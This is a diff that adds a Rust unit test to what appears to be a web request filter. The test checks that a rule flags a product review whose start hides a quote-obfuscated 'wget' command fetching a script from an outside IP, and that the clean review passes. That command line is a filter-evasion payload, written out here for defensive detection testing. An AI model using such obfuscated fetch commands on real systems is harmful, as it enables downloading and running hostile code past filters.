@@ -2446,4 +2446,33 @@ mod tests {
         let verdict = default_acl().evaluate(&inspection);
         assert!(!verdict.blocked, "{:?}", verdict.matches);
     }
+
+    /// A long text that begins with a command hidden by shell quotes is blocked, whether
+    /// the prefix search finds the command (in the text's first bytes) or leaves the text
+    /// to the whole search (after more spaces than the prefix holds); the same text
+    /// without the command passes.
+    #[test]
+    fn a_long_text_that_begins_with_a_hidden_command_is_blocked() {
+        let browser = "Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0";
+        let review = "Lovely wool coat, warm and light. The sleeves are long for me (I'm 1.60 m). "
+            .repeat(8);
+        let command = "w'g'et http://203.0.113.9/x.sh ";
+        let after_spaces = format!("{}{command}", " ".repeat(80));
+        for (start, rule) in [
+            ("", None),
+            (command, Some("SC-CMD-010")),
+            (&after_spaces, Some("SC-CMD-010")),
+        ] {
+            let form = form_urlencoded::Serializer::new(String::new())
+                .append_pair("review", &format!("{start}{review}"))
+                .finish();
+            let verdict = verdict(None, Some(&form), browser);
+            assert_eq!(
+                verdict.terminating_rule.as_deref(),
+                rule,
+                "{start:?}: {:?}",
+                verdict.matches
+            );
+        }
+    }
 }
